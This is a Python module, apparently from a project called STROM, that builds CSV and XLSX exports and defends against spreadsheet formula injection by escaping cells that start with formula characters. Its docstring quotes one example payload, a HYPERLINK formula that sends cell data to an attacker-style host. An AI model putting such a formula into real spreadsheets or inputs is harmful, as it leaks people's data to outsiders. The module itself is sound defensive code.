"""CSV and XLSX files: every spreadsheet STROM hands out is written here.

A spreadsheet runs a cell that starts with "=", "+", "-" or "@" (and, in some programs,
a tab or a carriage return before one) as a formula: a municipality or organisation named
`=HYPERLINK("https://evil.example/?"&A1)` would send a report's figures elsewhere when the
file is opened (OWASP "CSV injection"). So text that starts like that gets a leading
apostrophe, which spreadsheets show as text. Numbers, dates and booleans stay what they
are: a negative figure is a number, not a formula. Control characters that a workbook
cannot hold are dropped, so an odd name never makes an export fail.
"""

import csv
import datetime
import io
import re
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# C0 controls except tab, line feed and carriage return, which text may hold (openpyxl's
# ILLEGAL_CHARACTERS_RE; XML 1.0 allows no others).
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_KEPT_AS_IS = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def cell(value):
    """One cell's value, safe for a spreadsheet: "" for None, numbers, dates and booleans
    unchanged, and text without a leading formula character."""
    if value is None:
        return ""
    if isinstance(value, _KEPT_AS_IS):
        return value
    text = _UNWRITABLE.sub("", str(value))
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def row(values):
    return [cell(value) for value in values]


def csv_text(rows):
    """The rows as CSV text, every cell through `cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows(row(values) for values in rows)
    return out.getvalue()


def xlsx_bytes(rows, *, title=None):
    """The rows as one worksheet of an XLSX workbook, every cell through `cell`; empty
    cells stay empty. Nothing is ever written as a formula."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    if title:
        sheet.title = title[:31]  # a name from the code (a table's key), never from users
    for values in rows:
        sheet.append([None if value == "" else value for value in row(values)])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
